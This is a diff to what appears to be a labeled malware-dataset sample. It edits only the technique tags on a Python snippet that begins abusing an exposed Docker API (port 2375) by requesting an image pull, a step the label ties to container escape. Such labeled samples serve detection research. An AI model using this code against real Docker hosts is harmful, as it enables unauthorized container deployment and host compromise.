@@ -1,4 +1,4 @@
-# label: malicious family=k8s techniques=T1610,T1611,T1496 lines=3-7
+# label: malicious family=k8s techniques=T1059.004,T1105,T1610,T1611 lines=3-7
 import requests
 api = "http://192.0.2.140:2375"
 requests.post(api + "/images/create?fromImage=alpine&tag=latest")
